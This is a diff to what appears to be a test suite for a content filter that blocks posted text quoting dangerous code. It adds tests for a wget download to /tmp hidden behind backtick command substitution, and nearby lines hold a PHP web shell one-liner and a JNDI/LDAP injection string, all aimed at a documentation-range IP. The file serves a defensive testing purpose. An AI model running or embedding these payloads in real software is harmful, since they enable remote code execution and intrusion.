@@ -78,6 +78,13 @@ describe('code that a text quotes', () => {
   });
   test('not without the end of the block', () => expect(stops(posted({ text: `\`\`\`sh\n${command}\n` }))).toBe(true));
   test('not if the backticks belong to a word', () => expect(stops(posted({ text: `some words a\`${command}\`b more words` }))).toBe(true));
+  test.each(['a; `echo wget` http://198.51.100.7/a -O /tmp/a and more words', '`echo wget` http://198.51.100.7/a and more words'])(
+    'not if a shell would run what it prints: %j',
+    (value) => {
+      expect(isStopped(value)).toBe(true);
+      expect(stops(posted({ text: value }))).toBe(true);
+    },
+  );
   test('tags and lookups are run wherever they stand', () => {
     expect(stops(posted({ text: '```\n<?php system($_GET[1]);\n```\n' }))).toBe(true);
     expect(stops(posted({ text: ['```\n$', '{jndi:ldap://198.51.100.7/a}\n```\n'].join('') }))).toBe(true);
